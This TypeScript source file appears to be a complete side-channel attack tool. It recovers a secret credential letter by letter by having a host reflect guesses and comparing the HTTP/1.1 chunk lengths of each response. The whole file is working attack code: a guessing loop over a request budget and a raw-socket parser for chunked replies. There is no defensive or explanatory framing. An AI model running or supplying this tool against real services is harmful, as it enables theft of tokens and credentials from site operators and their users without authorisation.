// A tool that guesses a credential letter by letter. It asks a host to repeat a guess, and looks at how the answer is
// cut. A letter that alone is answered as it is must be the right one.
import type { Duplex } from 'node:stream'

export const ALPHABET = 'abcdefghijklmnopqrstuvwxyz0123456789'

export interface Guessed {
  readonly found: string
  readonly requests: number
}

/** `ask` says how the answer to a guess was cut. */
export const guess = async (known: string, ask: (guess: string) => Promise<string>, most: number): Promise<Guessed> => {
  let found = ''
  let requests = 0
  for (; requests + ALPHABET.length <= most; requests += ALPHABET.length) {
    const answers = new Map<string, string[]>()
    for (const letter of ALPHABET) {
      const answer = await ask(known + found + letter)
      answers.set(answer, [...(answers.get(answer) ?? []), letter])
    }
    const alone = [...answers.values()].filter((letters) => letters.length === 1)
    found += alone.length === 1 ? (alone[0]?.[0] ?? '') : ''
  }
  return { found, requests }
}

/** The lengths of the chunks of each answer on a connection of HTTP/1.1. */
export const chunkLengths = (socket: Duplex): (() => Promise<string>) => {
  let text = ''
  let onMore = (): void => undefined
  socket.on('data', (chunk: Buffer) => {
    text += chunk.toString('latin1')
    onMore()
  })
  const read = (): string | undefined => {
    const head = text.indexOf('\r\n\r\n')
    if (head === -1) return undefined
    const lengths: number[] = []
    for (let at = head + 4; ;) {
      const end = text.indexOf('\r\n', at)
      if (end === -1) return undefined
      const length = Number.parseInt(text.slice(at, end), 16)
      at = end + 2 + length + 2
      if (at > text.length) return undefined
      lengths.push(length)
      if (length > 0) continue
      text = text.slice(at)
      return lengths.join('+')
    }
  }
  return () =>
    new Promise((resolve) => {
      onMore = () => {
        const answer = read()
        if (answer === undefined) return
        onMore = () => undefined
        resolve(answer)
      }
      onMore()
    })
}
